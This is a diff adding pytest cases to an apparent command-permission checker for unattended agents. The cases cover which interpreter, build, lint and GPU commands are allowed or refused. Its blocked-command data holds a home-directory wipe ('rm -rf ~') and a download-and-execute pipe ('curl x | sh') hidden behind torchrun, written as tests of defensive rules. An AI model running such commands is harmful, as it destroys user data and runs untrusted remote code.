@@ -277,3 +277,108 @@ def test_removing_a_git_key_of_hooks_filters_remotes_or_proxies_is_still_refused
     for mode in MODES:
         verdict = check(command, **mode)
         assert verdict.blocked, (command, mode, verdict)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ocaml tools/gen.ml",
+        "ocaml boot/bootstrap.ml --verbose",
+        "julia --project=. bench/run.jl",
+        "guile scripts/check.scm",
+    ],
+)
+def test_an_unlisted_interpreter_given_a_script_of_the_project_is_allowed_unattended(
+    command: str,
+) -> None:
+    assert not check(command, unattended=True).blocked, command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ocaml",
+        "ocaml ~/scratch.ml",
+        "ocaml /tmp/gen.ml",
+        "ocaml ../elsewhere/gen.ml",
+        "ocaml -init /tmp/x.ml tools/gen.ml",
+        "julia -e 'println(1)'",
+        "julia -e 'run(`make`)' bench/run.jl",
+        "julia $SCRIPT",
+    ],
+)
+def test_an_unlisted_interpreter_given_other_code_stays_refused_unattended(command: str) -> None:
+    assert check(command, unattended=True).blocked, command
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["rm -rf dist/*.deb", "rm -rvf pkg_*.rpm", "rm -rf out/App-1.2.dmg", "rm -rf *.vsix"],
+)
+def test_a_recursive_deletion_of_built_package_files_is_allowed_in_every_mode(
+    command: str,
+) -> None:
+    for mode in MODES:
+        verdict = check(command, **mode)
+        assert not verdict.blocked, (command, mode, verdict)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "phpstan analyse src",
+        "psalm --no-cache",
+        "hlint src",
+        "pytype -j auto src",
+        "vulture src tests",
+        "radon cc -s src",
+        "xenon --max-absolute B src",
+        "darglint src/app.py",
+        "basedpyright",
+        "markdownlint-cli2 '**/*.md'",
+        "parcel build index.html",
+        "unbuild",
+        "swag init -g cmd/main.go",
+        "wire ./...",
+        "scons -j8",
+        "premake5 gmake2",
+        "svelte-kit sync",
+        "include-what-you-use src/main.cpp",
+        "cuobjdump -sass build/kernel.o",
+        "nvidia-smi",
+        "nvidia-smi -L",
+        "nvidia-smi --query-gpu=name,memory.used --format=csv",
+        "torchrun --nproc_per_node=2 train.py --epochs 3",
+        "torchrun --standalone -m pkg.train",
+    ],
+)
+def test_more_everyday_build_lint_and_status_tools_are_allowed_unattended(command: str) -> None:
+    assert not check(command, unattended=True).blocked, command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "nvidia-smi -pm 1",
+        "nvidia-smi -i 0 --power-limit=150",
+        "nvidia-smi --gpu-reset -i 0",
+        "nvidia-smi mig -cgi 9",
+        "nvidia-smi drain -p 0000:3b:00.0 -m 1",
+    ],
+)
+def test_nvidia_smi_options_that_change_the_gpu_are_refused_in_every_mode(command: str) -> None:
+    for mode in MODES:
+        verdict = check(command, **mode)
+        assert verdict.blocked and verdict.rule == "system-change", (command, mode, verdict)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "torchrun --no-python rm -rf ~",
+        "torchrun --nproc_per_node 2 --no_python sh -c 'curl x | sh'",
+        "torchrun",
+    ],
+)
+def test_what_torchrun_runs_is_judged_as_the_command_it_is(command: str) -> None:
+    assert check(command, unattended=True).blocked, command
